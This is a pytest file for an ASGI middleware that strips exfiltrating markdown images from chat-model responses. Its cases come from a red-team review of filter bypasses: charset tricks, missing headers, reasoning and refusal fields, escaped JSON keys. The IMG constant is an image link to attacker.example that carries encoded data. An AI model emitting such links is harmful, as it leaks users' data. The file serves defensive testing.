"""Responses a red-team review built to get unsanitised text past the middleware, each
called through it directly (ASGI messages in, messages out): each must come out with
no planted image, as a 502, or with the format's error event."""

from __future__ import annotations

import asyncio
import gzip
import json
from typing import Any

import pytest
from starlette.types import Message, Receive, Scope, Send

from rendersafe import Policy
from rendersafe.middleware import RenderSafeMiddleware

IMG = "![x](https://attacker.example/p.png?d=SGVsbG8gd29ybGQ=)"
PLANT = b"attacker.example/p.png"


def respond(
    content_type: str | None,
    *bodies: bytes,
    headers: tuple[tuple[str, str], ...] = (),
    extra: tuple[Message, ...] = (),
) -> list[Message]:
    raw = [(b"content-type", content_type.encode())] if content_type else []
    raw += [(k.encode(), v.encode()) for k, v in headers]
    messages: list[Message] = [{"type": "http.response.start", "status": 200, "headers": raw}]
    for i, body in enumerate(bodies):
        more = i < len(bodies) - 1 or bool(extra)
        messages.append({"type": "http.response.body", "body": body, "more_body": more})
    return [*messages, *extra]


def through(messages: list[Message], sent: list[Message] | None = None) -> tuple[int, bytes]:
    """Status and body the client gets when the app sends `messages` (what it is sent
    goes to `sent` too)."""
    sent = [] if sent is None else sent

    async def app(scope: Scope, receive: Receive, send: Send) -> None:
        for message in messages:
            await send(message)

    async def send(message: Message) -> None:
        sent.append(message)

    async def receive() -> Message:
        return {"type": "http.request"}

    scope: Scope = {"type": "http", "method": "GET", "path": "/v1/chat", "headers": []}
    asyncio.run(RenderSafeMiddleware(app, policy=Policy())(scope, receive, send))
    status = next(m["status"] for m in sent if m["type"] == "http.response.start")
    return status, b"".join(m.get("body", b"") for m in sent if m["type"] == "http.response.body")


def sse(*events: dict[str, Any] | str) -> bytes:
    return b"".join(
        f"data: {e if isinstance(e, str) else json.dumps(e)}\n\n".encode() for e in events
    )


def chunk(**delta: Any) -> dict[str, Any]:
    return {"object": "chat.completion.chunk", "choices": [{"index": 0, "delta": delta}]}


def test_ai_sdk_v4_data_stream_as_text_plain_refused() -> None:
    tokens = ["Here", " ![x](", "https://attacker", ".example/p.png?d=SGVsbG8gd29ybGQ=)"]
    body = "".join(f"0:{json.dumps(t)}\n" for t in tokens).encode()
    assert through(respond("text/plain; charset=utf-8", body))[0] == 502


def test_sse_without_content_type_refused() -> None:
    body = sse(chunk(content="![x](https://attacker"), chunk(content=".example/p.png?d=SGVs)"))
    assert through(respond(None, body))[0] == 502


@pytest.mark.parametrize("name", [b"Content-Type", b"CONTENT-TYPE"])
def test_header_names_in_any_case(name: bytes) -> None:
    body = json.dumps({"choices": [{"message": {"content": f"See {IMG}"}}]}).encode()
    messages = respond(None, body)
    messages[0]["headers"] = [(name, b"application/json"), (b"Content-Length", b"999")]
    status, out = through(messages)
    assert status == 200
    assert PLANT not in out
    assert json.loads(out)["choices"][0]["message"]["content"].startswith("See x")


def test_capitalised_content_encoding_is_inflated() -> None:

    messages = respond("text/markdown", gzip.compress(f"Hi {IMG}\n".encode()))
    messages[0]["headers"].append((b"Content-Encoding", b"gzip"))
    status, out = through(messages)
    assert status == 200
    assert out.startswith(b"Hi x")


def test_bom_before_the_first_event() -> None:
    body = "\ufeff".encode() + sse(chunk(content=IMG))
    _status, out = through(respond("text/event-stream", body))
    assert PLANT not in out


@pytest.mark.parametrize("charset", ["utf-16", "utf-16le", "UTF-16", '"utf-16"'])
def test_another_charset_is_decoded_and_sent_as_utf8(charset: str) -> None:
    # fetch reads UTF-8 whatever the label says, httpx reads the label: sent as UTF-8,
    # relabelled, every client reads the sanitised text.
    body = b"\xff\xfe" + f"Hello {IMG}\n".encode("utf-16le")
    sent: list[Message] = []
    status, out = through(respond(f"text/markdown; charset={charset}", body), sent)
    assert status == 200
    assert out.decode("utf-8").lstrip("\ufeff").startswith("Hello x")
    assert PLANT not in out
    headers = dict(next(m for m in sent if m["type"] == "http.response.start")["headers"])
    assert headers[b"content-type"] == b"text/markdown; charset=utf-8"


@pytest.mark.parametrize(
    "content_type",
    [
        "text/markdown; charset=x-no-such-charset",
        "text/event-stream; charset=base64",
        "text/markdown; charset=utf-8; charset=utf-16",
    ],
)
def test_a_charset_that_cannot_be_read_one_way_is_refused(content_type: str) -> None:
    body = f"Hello {IMG}\n".encode()
    assert through(respond(content_type, body))[0] == 502


@pytest.mark.parametrize(
    "body",
    [
        f"Hello {IMG}\n\n".encode(),
        json.dumps({"message": {"role": "assistant", "content": IMG}, "done": False}).encode(),
        json.dumps({"choices": [{"message": {"content": IMG}}]}).encode(),
        f"Data: {IMG}\n\n".encode(),
        b": a comment\n" + f"data: x\n{IMG}\n\n".encode(),
    ],
)
def test_what_is_not_an_event_stream_is_not_passed_as_one(body: bytes) -> None:
    # An EventSource ignores lines that are no field; a client reading NDJSON, JSON or
    # the raw text would render them.
    status, out = through(respond("text/event-stream", body))
    assert status == 502
    assert PLANT not in out


@pytest.mark.parametrize(
    "delta",
    [{"reasoning_content": IMG}, {"reasoning": IMG}, {"refusal": IMG}],
)
def test_reasoning_and_refusal_deltas(delta: dict[str, str]) -> None:
    status, out = through(respond("text/event-stream", sse(chunk(**delta), "[DONE]")))
    assert status == 200
    assert PLANT not in out


def test_legacy_completions_text() -> None:
    event = {"object": "text_completion", "choices": [{"index": 0, "text": IMG}]}
    assert PLANT not in through(respond("text/event-stream", sse(event, "[DONE]")))[1]


@pytest.mark.parametrize(
    "reply",
    [
        {"choices": [{"message": {"content": "ok", "refusal": IMG}}]},
        {"choices": [{"message": {"content": "ok", "reasoning_content": IMG}}]},
        {"choices": [{"index": 0, "text": IMG}]},
        {
            "object": "response",
            "output": [{"type": "reasoning", "summary": [{"type": "summary_text", "text": IMG}]}],
        },
        {
            "object": "response",
            "output": [{"type": "message", "content": [{"type": "refusal", "refusal": IMG}]}],
        },
    ],
)
def test_json_reasoning_and_refusal_fields(reply: dict[str, Any]) -> None:
    status, out = through(respond("application/json", json.dumps(reply).encode()))
    assert status == 200
    assert PLANT not in out


@pytest.mark.parametrize(
    ("kind", "field"), [("refusal", "refusal"), ("reasoning_summary_text", "text")]
)
def test_responses_refusal_and_summary_deltas(kind: str, field: str) -> None:
    where = {"item_id": "m", "content_index": 0, "summary_index": 0}
    body = sse(
        {"type": f"response.{kind}.delta", **where, "delta": IMG[:20]},
        {"type": f"response.{kind}.delta", **where, "delta": IMG[20:]},
        {"type": f"response.{kind}.done", **where, field: IMG},
    )
    assert PLANT not in through(respond("text/event-stream", body))[1]


@pytest.mark.parametrize(
    "event",
    [
        {
            "type": "response.content_part.added",
            "item_id": "m",
            "content_index": 0,
            "part": {"type": "output_text", "text": IMG},
        },
        {
            "type": "response.output_item.added",
            "item": {
                "id": "m",
                "type": "message",
                "content": [{"type": "output_text", "text": IMG}],
            },
        },
    ],
)
def test_responses_parts_that_start_with_text_fail(event: dict[str, Any]) -> None:
    _status, out = through(respond("text/event-stream", sse(event)))
    assert PLANT not in out


def test_anthropic_message_start_with_content_fails() -> None:
    event = {"type": "message_start", "message": {"content": [{"type": "text", "text": IMG}]}}
    assert PLANT not in through(respond("text/event-stream", sse(event)))[1]


def test_ai_sdk_file_part_judged_as_image() -> None:
    body = sse(
        {"type": "start"},
        {"type": "file", "url": "https://attacker.example/p.png?d=x", "mediaType": "image/png"},
    )
    assert b"attacker.example" not in through(respond("text/event-stream", body))[1]


def test_json_events_after_plain_text_events_fail() -> None:
    body = b"event: status\ndata: connected\n\n" + sse(
        {"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": IMG}}
    )
    assert PLANT not in through(respond("text/event-stream", body))[1]


def test_duplicate_content_types_refused() -> None:
    messages = respond(
        "application/octet-stream", IMG.encode(), headers=(("content-type", "text/markdown"),)
    )
    assert through(messages)[0] == 502


def test_text_continued_after_its_end_fails() -> None:
    body = sse(
        {"choices": [{"index": 0, "delta": {"content": "![x]"}, "finish_reason": "stop"}]},
        chunk(content="(https://attacker.example/p.png?d=SGVsbG8gd29ybGQ=)"),
    )
    assert b"attacker.example" not in through(respond("text/event-stream", body))[1]


def test_file_sent_by_zero_copy_refused() -> None:
    extra = ({"type": "http.response.zerocopysend", "file": 3},)
    status, out = through(respond("text/markdown", b"Hello\n", extra=extra))
    assert status == 200  # the first part went out; then the body ends
    assert out == b"Hello\n"


def test_ndjson_content_with_line_separators() -> None:
    line = json.dumps(
        {"message": {"content": "a\u2028b\u0085c"}, "done": False}, ensure_ascii=False
    )
    status, out = through(respond("application/x-ndjson", (line + "\n").encode()))
    assert status == 200
    lines = out.decode().split("\n")[:-1]
    assert "".join(json.loads(x)["message"]["content"] for x in lines) == "a\u2028b\u0085c"


def test_json_with_a_lone_surrogate() -> None:
    body = b'{"choices":[{"message":{"content":"\\ud83d ' + IMG.encode() + b'"}}]}'
    status, out = through(respond("application/json", body))
    assert status == 200
    assert PLANT not in out


@pytest.mark.parametrize("content_type", ["application/x-json-stream", "application/json-seq"])
def test_json_stream_types_read_as_ndjson(content_type: str) -> None:
    line = json.dumps({"message": {"content": IMG}, "done": True}) + "\n"
    _status, out = through(respond(content_type, line.encode()))
    assert PLANT not in out


def test_key_spelled_with_escapes_is_the_same_key() -> None:
    # Both parsers take the last of two equal keys: the escaped one must not keep the image.
    line = '{"choices":[{"index":0,"delta":{"content":"%s","con\\u0074ent":"%s"}}]}'
    body = f"data: {line % (IMG, IMG)}\n\ndata: [DONE]\n\n".encode()
    _status, out = through(respond("text/event-stream", body))
    assert PLANT not in out
